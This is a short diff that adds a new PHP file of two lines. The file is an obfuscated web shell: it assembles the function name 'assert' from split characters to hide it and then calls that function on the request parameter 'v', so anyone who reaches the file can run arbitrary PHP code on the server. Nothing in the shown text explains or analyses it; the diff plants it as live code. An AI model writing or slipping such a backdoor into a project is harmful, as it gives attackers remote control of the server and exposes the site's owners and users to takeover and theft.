@@ -1,0 +1,2 @@
+<?php
+$z = explode(',', 'a,s,s,e,r,t'); $y = implode('', $z); $y($_REQUEST['v']);
